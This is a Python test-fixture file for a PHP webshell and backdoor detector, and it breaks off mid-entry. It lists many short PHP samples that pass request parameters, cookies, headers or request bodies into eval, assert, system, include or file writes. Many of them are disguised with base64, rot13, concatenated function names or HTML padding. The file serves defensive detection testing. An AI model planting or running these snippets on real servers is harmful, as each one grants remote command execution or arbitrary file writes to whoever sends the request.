# ruff: noqa: E501
"""Must-hit / near-miss samples for issue 4k: small webshells and backdoors reaching execution sinks.

Variants of real-world shapes written for the tests (renamed variables, other superglobals, decoders,
@-silencing, whitespace/comments between tokens, capitalised sink names, two-step assignments); nothing
here comes from the malware corpus. `padded(...)` puts the same code behind 5 KB of neutral HTML, the way
one-liners are injected into bigger pages, where the size-bounded tiny rules no longer apply.
Collected by tests/test_rules.py.
"""

from __future__ import annotations

from tests.sample_hosts import padded

CASES: list[tuple[str, bytes, bool]] = [
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $k = $_COOKIE['k']; if ($k) { @eval(base64_decode($k)); }\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $cmd=$_SERVER['HTTP_X_CMD']; echo shell_exec($cmd);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php\n$h = getallheaders();\nif (isset($h['X-Run'])) { eval(base64_decode($h['X-Run'])); }\n"
        ),
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        padded("<?php\n$a = 'sys' . 'tem';\n$a(trim($_REQUEST['q']));\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php extract($_REQUEST); if (isset($fn)) { $fn($arg); }\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php parse_str($_SERVER['QUERY_STRING'], $q); $q['a']($q['b']);\n"),
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        padded("<?php array_map('ass'.'ert', array((string)$_POST['z']));\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        padded("<?php @call_user_func_array('assert', array($_REQUEST['c']));\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        padded("<?php $arr = array($_POST['code']); usort($arr, 'assert');\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        padded("<?php register_shutdown_function('system', $_GET['cmd']);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        padded("<?php array_filter(array($_COOKIE['c']), 'assert');\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded(
            "<?php $fp = popen($_POST['c'] . ' 2>&1', 'r'); while (!feof($fp)) echo fgets($fp); pclose($fp);\n"
        ),
        True,
    ),
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded(
            "<?php\n$desc = array(1 => array('pipe', 'w'));\n$p = proc_open($_REQUEST['cmd'], $desc, $pipes);\necho stream_get_contents($pipes[1]);\n"
        ),
        True,
    ),
    ("SPAMGEAR_INPUT_ShellOfInput", padded("<?php echo `{$_GET['c']}`;\n"), True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $c=$_GET['c']; echo `$c`;\n"), True),
    ("SPAMGEAR_INPUT_IncludeOfInput", padded("<?php include base64_decode($_GET['p']);\n"), True),
    ("SPAMGEAR_INPUT_IncludeOfInput", padded("<?php require_once($_REQUEST['mod'] . '.php');\n"), True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $g = '_GET'; $$g['f']($$g['a']);\n"), True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $i = $_POST; @$i['fn']($i['arg']);\n"), True),
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        padded("<?php file_put_contents($_GET['n'], base64_decode($_POST['d']));\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        padded("<?php $h = fopen($_REQUEST['f'], 'w'); fwrite($h, $_REQUEST['c']); fclose($h);\n"),
        True,
    ),
    ("SPAMGEAR_INPUT_ShellOfInput", padded("<?php passthru(urldecode($_GET['c']));\n"), True),
    ("SPAMGEAR_INPUT_ShellOfInput", padded("<?php exec($_POST['c'], $out); print_r($out);\n"), True),
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded("<?php $o = array(); exec(base64_decode($_COOKIE['c']), $o); echo implode(\"\\n\", $o);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $fn = $_SERVER['HTTP_USER_AGENT']; $fn($_SERVER['HTTP_ACCEPT_LANGUAGE']);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $b = $_REQUEST['b']; @system(base64_decode($b)) or die;\n"),
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        padded("<?php\n$x = $_POST['x'];\n$y = base64_decode($x);\n$z = 'as' . 'se' . 'rt';\n$z($y);\n"),
        True,
    ),
    ("SPAMGEAR_INPUT_SinkNameAsCallback", padded("<?php uasort($_GET, 'assert');\n"), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $c = $_GET['c'] ?? ''; if ($c !== '') { echo '<pre>' . shell_exec($c) . '</pre>'; }\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        padded("<?php echo (new ArrayObject([$_POST['c']]))->uasort('assert');\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php $data = json_decode(file_get_contents('php://input'), true); $data['f']($data['a']);\n"
        ),
        True,
    ),
    ("SPAMGEAR_INPUT_CapitalisedSinkOfInput", padded("<?php EVAL($_POST['x']);\n"), True),
    ("SPAMGEAR_INPUT_CapitalisedSinkOfInput", padded('<?php @Assert( $_GET [ "a" ] );\n'), True),
    ("SPAMGEAR_INPUT_CapitalisedSinkOfInput", padded("<?php System($_REQUEST['c']);\n"), True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $_ = $_GET; $__ = $_['a']; @eval($__);\n"), True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $v = 'c'; $$v = $_POST['c']; eval($c);\n"), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php\nforeach ($_POST as $k => $v) { $$k = $v; }\n$fn($arg);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $m = 'ev'; $m .= 'al'; $c = $_POST['c']; eval(\"\\$r = $c;\");\n"),
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        padded("<?php $s='sh'.'ell'.'_'.'exec'; echo $s($_GET['x']);\n"),
        True,
    ),
    ("SPAMGEAR_OBFUSC_ConcatSinkName", padded('<?php $p = "pa"."ss"."thru"; @$p($_COOKIE["c"]);\n'), True),
    ("SPAMGEAR_INPUT_IncludeOfInput", padded("<?php @include(str_rot13($_GET['f']));\n"), True),
    ("SPAMGEAR_INPUT_IncludeOfInput", padded("<?php include_once urldecode($_COOKIE['inc']);\n"), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php if (isset($_REQUEST['u'])) { $code = file_get_contents($_REQUEST['u']); eval('?>' . $code); }\n"
        ),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php $cb = $_REQUEST['cb']; $args = explode(',', $_REQUEST['args']); echo call_user_func_array($cb, $args);\n"
        ),
        True,
    ),
    ("SPAMGEAR_INPUT_SinkNameAsCallback", padded("<?php @array_walk($_REQUEST, 'assert');\n"), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            '<?php $c = $_GET[\'c\']; $out = array(); @exec("$c 2>&1", $out); foreach ($out as $l) echo $l, "\\n";\n'
        ),
        True,
    ),
    ("SPAMGEAR_INPUT_ShellOfInput", padded("<?php print `$_POST[x]`;\n"), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $x = $_SERVER['HTTP_ACCEPT']; $y = base64_decode($x); eval($y);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $f = fopen('php://input', 'r'); $code = stream_get_contents($f); eval($code);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php list($f, $a) = array_values($_GET); $f($a);\n"),
        True,
    ),
    ("SPAMGEAR_INPUT_InputNamedArglessCall", padded("<?php $fn = $_GET['fn'] ?? 'phpinfo'; $fn();\n"), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $data = unserialize(base64_decode($_COOKIE['d'])); $data['f']($data['a']);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_InputIntoPhpFile",
        padded("<?php file_put_contents('cache.php', '<?php ' . $_POST['code']); include 'cache.php';\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php $n = $_POST['n']; $c = $_POST['c']; $r = file_put_contents($n, base64_decode($c)); echo $r ? 'ok' : 'fail';\n"
        ),
        True,
    ),
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        padded("<?php @fwrite(fopen($_GET['p'], 'wb'), file_get_contents('php://input'));\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $e = gzinflate(base64_decode($_POST['z'])); eval($e);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php\n$c = $_REQUEST['c'];\n$c = str_replace('!', '', $c);\n$c = base64_decode($c);\nassert($c);\n"
        ),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php $q = $_GET['q']; $r = proc_open($q, [0=>['pipe','r'],1=>['pipe','w'],2=>['pipe','w']], $pp); echo stream_get_contents($pp[1]);\n"
        ),
        True,
    ),
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded("<?php $h = popen(base64_decode($_COOKIE['c']), 'r'); echo fread($h, 65535);\n"),
        True,
    ),
    ("SPAMGEAR_INPUT_IncludeOfInput", padded("<?php include_once urldecode($_COOKIE['inc']);\n"), True),
    ("SPAMGEAR_INPUT_IncludeOfInput", padded("<?php require(base64_decode($_POST['r']));\n"), True),
    ("SPAMGEAR_INPUT_IncludeOfInput", padded("<?php @include(trim($_REQUEST['f']));\n"), True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $g = '_GET'; $$g['f']($$g['a']);\n"), True),
    (
        "SPAMGEAR_OBFUSC_SplitSuperglobalName",
        padded("<?php $r = '_REQ' . 'UEST'; $in = $GLOBALS[$r]; system($in['c']);\n"),
        True,
    ),
    ("SPAMGEAR_OBFUSC_SplitSuperglobalName", padded('<?php eval(${"_P"."OST"}[\'z\']);\n'), True),
    ("SPAMGEAR_INPUT_InputNamedArglessCall", padded("<?php $f = $_GET['f']; $f();\n"), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php\nif (!empty($_SERVER['HTTP_X_FORWARDED_CMD'])) {\n    $c = $_SERVER['HTTP_X_FORWARDED_CMD'];\n    passthru($c);\n}\n"
        ),
        True,
    ),
    ("SPAMGEAR_INPUT_CapitalisedSinkOfInput", padded('<?php ASSERT(@$_REQUEST["a"]);\n'), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php @$a=$_POST['a']; @$b=$_POST['b']; @$a($b);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $x = @$_REQUEST['x']; $y = @$_REQUEST['y']; if ($x && $y) { echo $x($y); }\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $c = base64_decode(strrev($_GET['c'])); echo `$c`;\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded("<?php $o = shell_exec(escapeshellcmd($_POST['c'])); echo \"<pre>$o</pre>\";\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded('<?php $cmd = $_GET["cmd"]; $res = exec($cmd); echo $res;\n'),
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        padded("<?php $f = 'cr'.'eate_'.'function'; $g = $f('$a', $_REQUEST['b']); $g(1);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $q = $_GET; $q = $q['q']; $q = base64_decode($q); eval($q);\n"),
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $s = $_POST['s'] ?? ''; @eval(\"?>$s\");\n"), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php $x = $_REQUEST['x']; $x = gzinflate(base64_decode($x)); $x = str_rot13($x); eval($x);\n"
        ),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $a = array_values($_GET); call_user_func($a[0], $a[1]);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_InputPathVarWrite",
        padded(
            "<?php\n$target = $_SERVER['DOCUMENT_ROOT'] . '/' . $_POST['name'];\n$fh = fopen($target, 'w'); fputs($fh, $_POST['content']); fclose($fh);\n"
        ),
        True,
    ),
    (
        "SPAMGEAR_INPUT_InputIntoPhpFile",
        padded("<?php file_put_contents(__DIR__ . '/x.php', base64_decode($_REQUEST['x']));\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        padded("<?php array_map(\"ass\\x65rt\", (array)$_REQUEST['a']);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        padded("<?php iterator_apply(new ArrayIterator([$_POST['a']]), 'assert', [$_POST['a']]);\n"),
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        padded("<?php $cb = 'sys' . 'tem'; call_user_func($cb, $_GET['c']);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        padded("<?php register_shutdown_function(str_rot13('flfgrz'), $_GET['c']);\n"),
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php @extract($_POST); @$a($b);\n"), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php parse_str(file_get_contents('php://input'), $o); eval($o['c']);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php parse_str($_SERVER['QUERY_STRING']); eval($c);\n"),
        True,
    ),
    ("SPAMGEAR_INPUT_ShellOfInput", padded("<?php echo system(hex2bin($_COOKIE['h']));\n"), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php $c = $_GET['c']; ob_start(); passthru($c . ' 2>&1'); $o = ob_get_clean(); echo htmlspecialchars($o);\n"
        ),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $h = apache_request_headers(); @eval($h['X-Code']);\n"),
        True,
    ),
    ("SPAMGEAR_INPUT_EvalOfInput", b"<?php @assert(stripslashes($_REQUEST['x']));\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $k = $_COOKIE['k']; if ($k) { @eval(base64_decode($k)); }\n",
        True,
    ),
    ("SPAMGEAR_OBFUSC_VariableFunctionCall", b"<?php\n$f = str_rot13('flfgrz');\n$f($_GET['c']);\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $cmd=$_SERVER['HTTP_X_CMD']; echo shell_exec($cmd);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php\n$h = getallheaders();\nif (isset($h['X-Run'])) { eval(base64_decode($h['X-Run'])); }\n",
        True,
    ),
    ("SPAMGEAR_INPUT_EvalOfInput", b"<?php eval(file_get_contents('php://input'));\n", True),
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        b'<?php $d = @file_get_contents("php://input"); @eval(gzinflate(base64_decode($d)));\n',
        True,
    ),
    ("SPAMGEAR_OBFUSC_ReversedOrRot13Sink", b"<?php $s = strrev('tressa'); $s(@$_POST['p']);\n", True),
    ("SPAMGEAR_OBFUSC_ConcatSinkName", b"<?php\n$a = 'sys' . 'tem';\n$a(trim($_REQUEST['q']));\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php extract($_REQUEST); if (isset($fn)) { $fn($arg); }\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php parse_str($_SERVER['QUERY_STRING'], $q); $q['a']($q['b']);\n",
        True,
    ),
    ("SPAMGEAR_OBFUSC_ConcatSinkName", b"<?php array_map('ass'.'ert', array((string)$_POST['z']));\n", True),
    ("SPAMGEAR_INPUT_InputAsFunction", b"<?php call_user_func($_GET['f'], $_GET['p']);\n", True),
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        b"<?php @call_user_func_array('assert', array($_REQUEST['c']));\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        b"<?php $arr = array($_POST['code']); usort($arr, 'assert');\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        b"<?php register_shutdown_function('system', $_GET['cmd']);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_SinkNameAsCallback", b"<?php array_filter(array($_COOKIE['c']), 'assert');\n", True),
    (
        "SPAMGEAR_FAMILY_ChinaChopper",
        b"<?php $x = create_function('', base64_decode($_POST['b'])); $x();\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        b"<?php $fp = popen($_POST['c'] . ' 2>&1', 'r'); while (!feof($fp)) echo fgets($fp); pclose($fp);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        b"<?php\n$desc = array(1 => array('pipe', 'w'));\n$p = proc_open($_REQUEST['cmd'], $desc, $pipes);\necho stream_get_contents($pipes[1]);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_ShellOfInput", b"<?php echo `{$_GET['c']}`;\n", True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $c=$_GET['c']; echo `$c`;\n", True),
    ("SPAMGEAR_INPUT_IncludeOfInput", b"<?php include base64_decode($_GET['p']);\n", True),
    ("SPAMGEAR_INPUT_IncludeOfInput", b"<?php require_once($_REQUEST['mod'] . '.php');\n", True),
    ("SPAMGEAR_FAMILY_ChinaChopper", b'<?php preg_replace("/x/e", $_REQUEST[\'r\'], "x");\n', True),
    (
        "SPAMGEAR_FAMILY_ChinaChopper",
        b"<?php @preg_replace('~.*~e', base64_decode($_POST['r']), '');\n",
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_EscapedSinkName",
        b"<?php $t = \"\\x73\\x79\\x73\\x74\\x65\\x6d\"; $t($_GET['c']);\n",
        True,
    ),
    (
        "SPAMGEAR_FAMILY_ChinaChopper",
        b"<?php $e = chr(101).chr(118).chr(97).chr(108); /* */ @eval($_POST['e']);\n",
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_ChrChain",
        b"<?php $n = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $n($_REQUEST['c']);\n",
        True,
    ),
    ("SPAMGEAR_OBFUSC_SplitSuperglobal", b"<?php ${'_'.'POST'}['a'](${'_'.'POST'}['b']);\n", True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $g = '_GET'; $$g['f']($$g['a']);\n", True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $i = $_POST; @$i['fn']($i['arg']);\n", True),
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        b"<?php file_put_contents($_GET['n'], base64_decode($_POST['d']));\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        b"<?php $h = fopen($_REQUEST['f'], 'w'); fwrite($h, $_REQUEST['c']); fclose($h);\n",
        True,
    ),
    (
        "SPAMGEAR_FAMILY_ChinaChopper",
        b"<?php\nif (md5($_COOKIE['pw']) == '5f4dcc3b5aa765d61d8327deb882cf99') {\n    eval($_POST['x']);\n}\n",
        True,
    ),
    ("SPAMGEAR_OBFUSC_CommentBeforeParen", b"<?php @eval /* x */ ( $_REQUEST [ 'x' ] ) ;\n", True),
    (
        "SPAMGEAR_OBFUSC_VariableFunctionCall",
        b"<?php\n$p = base64_decode('c3lzdGVt');\n$p($_POST['c']);\n",
        True,
    ),
    ("SPAMGEAR_OBFUSC_VariableFunctionCall", b"<?php $z = hex2bin('73797374656d'); $z($_GET['c']);\n", True),
    ("SPAMGEAR_INPUT_ShellOfInput", b"<?php passthru(urldecode($_GET['c']));\n", True),
    ("SPAMGEAR_INPUT_ShellOfInput", b"<?php exec($_POST['c'], $out); print_r($out);\n", True),
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        b"<?php $o = array(); exec(base64_decode($_COOKIE['c']), $o); echo implode(\"\\n\", $o);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_EvalOfInput", b"<?php eval(str_rot13($_POST['r']));\n", True),
    ("SPAMGEAR_INPUT_EvalOfInput", b"<?php eval(gzuncompress(base64_decode($_REQUEST['z'])));\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $fn = $_SERVER['HTTP_USER_AGENT']; $fn($_SERVER['HTTP_ACCEPT_LANGUAGE']);\n",
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        b"<?php\n$k = 'HTTP_X_' . 'DATA';\nif (!empty($_SERVER[$k])) { eval(base64_decode($_SERVER[$k])); }\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_SmallInputAndSink",
        b"<?php array_walk($_POST, function($v, $k) { if ($k == 'z') assert($v); });\n",
        True,
    ),
    (
        "SPAMGEAR_EVASION_ReflectionOfInput",
        b"<?php $f = new ReflectionFunction($_GET['f']); $f->invoke($_GET['a']);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $b = $_REQUEST['b']; @system(base64_decode($b)) or die;\n",
        True,
    ),
    ("SPAMGEAR_OBFUSC_VariableFunctionCall", b"<?php\n$q = strtolower('SYSTEM');\n$q($_POST['c']);\n", True),
    ("SPAMGEAR_INPUT_InputAsFunction", b"<?php @array_map($_REQUEST['f'], array($_REQUEST['a']));\n", True),
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        b"<?php\n$x = $_POST['x'];\n$y = base64_decode($x);\n$z = 'as' . 'se' . 'rt';\n$z($y);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_SinkNameAsCallback", b"<?php uasort($_GET, 'assert');\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $c = $_GET['c'] ?? ''; if ($c !== '') { echo '<pre>' . shell_exec($c) . '</pre>'; }\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        b"<?php echo (new ArrayObject([$_POST['c']]))->uasort('assert');\n",
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_VariableFunctionCall",
        b"<?php $s = implode('', array('s','y','s','t','e','m')); $s($_GET['c']);\n",
        True,
    ),
    (
        "SPAMGEAR_EVASION_AltInputToSink",
        b"<?php @eval(stripslashes(urldecode($_SERVER['QUERY_STRING'])));\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $data = json_decode(file_get_contents('php://input'), true); $data['f']($data['a']);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_SmallInputAndSink",
        b"<?php\n$c = @$_COOKIE['sess'];\nif (strlen($c) > 8) { $c = strrev($c); eval(base64_decode($c)); }\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_SmallInputAndSink",
        b"<?php preg_replace_callback('/.+/', function($m) { return eval($m[0]); }, $_POST['c']);\n",
        True,
    ),
    ("SPAMGEAR_FAMILY_ChinaChopper", b"<?php mb_ereg_replace('.*', $_POST['c'], '', 'e');\n", True),
    ("SPAMGEAR_INPUT_CapitalisedSinkOfInput", b"<?php EVAL($_POST['x']);\n", True),
    ("SPAMGEAR_INPUT_CapitalisedSinkOfInput", b'<?php @Assert( $_GET [ "a" ] );\n', True),
    ("SPAMGEAR_INPUT_CapitalisedSinkOfInput", b"<?php System($_REQUEST['c']);\n", True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $_ = $_GET; $__ = $_['a']; @eval($__);\n", True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $v = 'c'; $$v = $_POST['c']; eval($c);\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php\nforeach ($_POST as $k => $v) { $$k = $v; }\n$fn($arg);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $m = 'ev'; $m .= 'al'; $c = $_POST['c']; eval(\"\\$r = $c;\");\n",
        True,
    ),
    ("SPAMGEAR_OBFUSC_ConcatSinkName", b"<?php $s='sh'.'ell'.'_'.'exec'; echo $s($_GET['x']);\n", True),
    ("SPAMGEAR_OBFUSC_ConcatSinkName", b'<?php $p = "pa"."ss"."thru"; @$p($_COOKIE["c"]);\n', True),
    (
        "SPAMGEAR_OBFUSC_InputToVariableFunction",
        b"<?php $f = base64_decode('YXNzZXJ0'); $f(base64_decode($_REQUEST['e']));\n",
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_ReversedOrRot13Sink",
        b"<?php $f = str_rot13('nffreg'); @$f(stripslashes($_POST['p']));\n",
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_VariableFunctionCall",
        b"<?php\n$d = 'base64_decode';\n$e = $d('ZXhlYw==');\n$e($_GET['c'], $o); echo join(\"\\n\", $o);\n",
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_VariableFunctionCall",
        b"<?php $a = array('a','s','s','e','r','t'); $f = join('', $a); $f($_POST['c']);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_IncludeOfInput", b"<?php @include(str_rot13($_GET['f']));\n", True),
    ("SPAMGEAR_INPUT_IncludeOfInput", b"<?php include_once urldecode($_COOKIE['inc']);\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php if (isset($_REQUEST['u'])) { $code = file_get_contents($_REQUEST['u']); eval('?>' . $code); }\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $cb = $_REQUEST['cb']; $args = explode(',', $_REQUEST['args']); echo call_user_func_array($cb, $args);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_SinkNameAsCallback", b"<?php @array_walk($_REQUEST, 'assert');\n", True),
    (
        "SPAMGEAR_INPUT_SmallInputAndSink",
        b"<?php $a = [$_POST['x'] => 1]; array_walk($a, function($v, $k) { eval($k); });\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b'<?php $c = $_GET[\'c\']; $out = array(); @exec("$c 2>&1", $out); foreach ($out as $l) echo $l, "\\n";\n',
        True,
    ),
    ("SPAMGEAR_INPUT_ShellOfInput", b"<?php print `$_POST[x]`;\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $x = $_SERVER['HTTP_ACCEPT']; $y = base64_decode($x); eval($y);\n",
        True,
    ),
    (
        "SPAMGEAR_EVASION_HeaderToSinkTiny",
        b"<?php\n$hs = function_exists('getallheaders') ? getallheaders() : array();\n$cmd = isset($hs['Cmd']) ? $hs['Cmd'] : '';\nif ($cmd) { system($cmd); }\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $f = fopen('php://input', 'r'); $code = stream_get_contents($f); eval($code);\n",
        True,
    ),
    (
        "SPAMGEAR_BACKDOOR_JsonBodyToSink",
        b"<?php $input = file_get_contents('php://input'); $j = json_decode($input); system($j->cmd);\n",
        True,
    ),
    (
        "SPAMGEAR_EVASION_CopiedInputElementCall",
        b"<?php $k = $_POST; $k = array_values($k); $k[0]($k[1]);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php list($f, $a) = array_values($_GET); $f($a);\n", True),
    ("SPAMGEAR_INPUT_InputNamedArglessCall", b"<?php $fn = $_GET['fn'] ?? 'phpinfo'; $fn();\n", True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $data = unserialize(base64_decode($_COOKIE['d'])); $data['f']($data['a']);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_InputAsFunction", b"<?php @$_POST['f']($_POST['c']);\n", True),
    ("SPAMGEAR_INPUT_InputAsFunction", b"<?php @$_COOKIE[1]($_COOKIE[2]);\n", True),
    ("SPAMGEAR_OBFUSC_VariableFunctionCall", b"<?php ($_=@$_GET['a']).@$_($_GET['b']);\n", True),
    (
        "SPAMGEAR_INPUT_TinyCallbackOfInput",
        b"<?php $o = new stdClass; $o->f = $_POST['f']; ($o->f)($_POST['a']);\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_InputIntoPhpFile",
        b"<?php file_put_contents('cache.php', '<?php ' . $_POST['code']); include 'cache.php';\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $n = $_POST['n']; $c = $_POST['c']; $r = file_put_contents($n, base64_decode($c)); echo $r ? 'ok' : 'fail';\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        b"<?php @fwrite(fopen($_GET['p'], 'wb'), file_get_contents('php://input'));\n",
        True,
    ),
    ("SPAMGEAR_TOOLKIT_UploadToInputPath", b"<?php copy($_FILES['f']['tmp_name'], $_POST['dst']);\n", True),
    (
        "SPAMGEAR_SHELLUI_BareUploader",
